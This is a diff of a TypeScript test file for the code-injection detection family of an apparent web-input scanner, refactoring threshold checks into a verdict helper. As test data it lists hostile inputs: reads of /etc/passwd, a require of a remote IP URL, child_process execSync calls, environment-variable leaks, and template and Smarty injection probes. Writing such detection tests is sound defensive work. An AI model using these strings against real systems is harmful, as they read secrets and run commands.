@@ -5,11 +5,15 @@ import { describe, expect, it } from "@effect/vitest"
 import { family } from "../../../src/internal/detection/families/code/index.js"
 import type { Paranoia } from "../../../src/internal/detection/families/contract.js"
 import { cpuDoublingRatio } from "./doublingRatio.js"
+import { expectVerdicts as verdicts } from "./verdicts.js"
 
 const score = (value: string, paranoia: Paranoia = 1): number =>
   family.mayMatch(value)
     ? family.scan(value, { location: "query", paranoia }).reduce((sum, finding) => sum + finding.score, 0)
     : 0
+
+/** Each of `passing` stays below the threshold at level 1 and each of `refused` reaches it. */
+const expectVerdicts = (passing: ReadonlyArray<string>, refused: ReadonlyArray<string>): void => verdicts((value) => score(value, 1), passing, refused)
 
 describe("code family", () => {
   it.each([
@@ -155,56 +159,54 @@ describe("code family", () => {
   })
 
   it("passes a CommonJS import assigned to a name, as Node READMEs and snippets write it", () => {
-    for (const value of [
+    expectVerdicts([
       "const colors = require('@colors/colors');\nconsole.log('hello'.green)",
       "const { trace } = require(\"@opentelemetry/api\");",
       "var ui = require('./lib/ui')",
       "cliui = require('cliui')"
-    ]) {
-      expect(score(value, 1), value).toBeLessThan(5)
-    }
-    // what a payload does with the module, or a path, URL or wrapper, still counts
-    for (const value of ["x = require('fs').readFileSync('/etc/passwd')", "a = require('http://203.0.113.9/s.txt')", "require('fs')"]) {
-      expect(score(value, 1), value).toBeGreaterThanOrEqual(5)
-    }
+    ], [
+      // what a payload does with the module, or a path, URL or wrapper, still counts
+      "x = require('fs').readFileSync('/etc/passwd')",
+      "a = require('http://203.0.113.9/s.txt')",
+      "require('fs')"
+    ])
   })
 
   it("passes Node settings and exports in a snippet of several lines or named in a code span; a one-line read still counts", () => {
-    for (const value of [
+    expectVerdicts([
       "const port = Number(process.env.PORT);\nconst app = createApp();\napp.listen(port);\n",
       "function helper() {\n  return 1;\n}\nmodule.exports = helper;\n",
       "Set the endpoint with `process.env.OTEL_EXPORTER_OTLP_ENDPOINT`.",
       "Reads `process.env[key]` and falls back to the default."
-    ]) {
-      expect(score(value, 1), value).toBeLessThan(5)
-    }
-    for (const value of ["res.end(JSON.stringify(process.env))", "';return process.env;//", "`${process.env.SECRET}`", "x`process.env.SECRET`;\nmodule.exports = 1"]) {
-      expect(score(value, 1), value).toBeGreaterThanOrEqual(5)
-    }
-    // a strong sign counts in a snippet too
-    expect(score("const cp = require('child_process');\nconst out = cp.execSync('id');\nconsole.log(out);\n", 1)).toBeGreaterThanOrEqual(5)
+    ], [
+      "res.end(JSON.stringify(process.env))",
+      "';return process.env;//",
+      "`${process.env.SECRET}`",
+      // a strong sign counts in a snippet too
+      "const cp = require('child_process');\nconst out = cp.execSync('id');\nconsole.log(out);\n"
+    ])
   })
 
   it("passes a Node built-in that runs nothing, required with `node:`, and `child_process` named at a sentence's end", () => {
-    for (const value of [
+    expectVerdicts([
       "const { test, after } = require('node:test')\ntest('x', (t) => t.pass())",
       "const assert = require('node:assert')",
       "Pass arguments to `node` when spawning `worker_threads` or `child_process`."
-    ]) {
-      expect(score(value, 1), value).toBeLessThan(5)
-    }
-    for (const value of ["x=require('node:child_process').execSync('id')", "require('node:fs').readFileSync('/etc/passwd')", "require(\"child_process\").exec('id')"]) {
-      expect(score(value, 1), value).toBeGreaterThanOrEqual(5)
-    }
+    ], ["x=require('node:child_process').execSync('id')", "require('node:fs').readFileSync('/etc/passwd')", "require(\"child_process\").exec('id')"])
+  })
+
+  it("reads a back-quote in a template expression as a shell command only where the engine runs one", () => {
+    expectVerdicts(
+      ["pc.green(`How are ${pc.italic(`you`)} doing?`)", "const msg = `Total: ${fmt(`${n}`)}`", "{{ `x` }}"],
+      ["#{`id`}", "<%= `ls -la` %>", "${`id`} and ${config}"]
+    )
   })
 
   it("refuses Smarty's reserved variable, the probe of a Smarty injection; other Smarty and PHP braces pass", () => {
-    for (const value of ["{$smarty.version}", "{$smarty.const.PHP_VERSION}", "{ $smarty.template_object }"]) {
-      expect(score(value, 1), value).toBeGreaterThanOrEqual(5)
-    }
-    for (const value of ["{$price} per month", "Hello {$user->name}", "Smarty is a template engine for PHP"]) {
-      expect(score(value, 1), value).toBeLessThan(5)
-    }
+    expectVerdicts(
+      ["{$price} per month", "Hello {$user->name}", "Smarty is a template engine for PHP"],
+      ["{$smarty.version}", "{$smarty.const.PHP_VERSION}", "{ $smarty.template_object }"]
+    )
   })
 
   it("keeps bare constructor chains and Perl interpolation for level 2", () => {
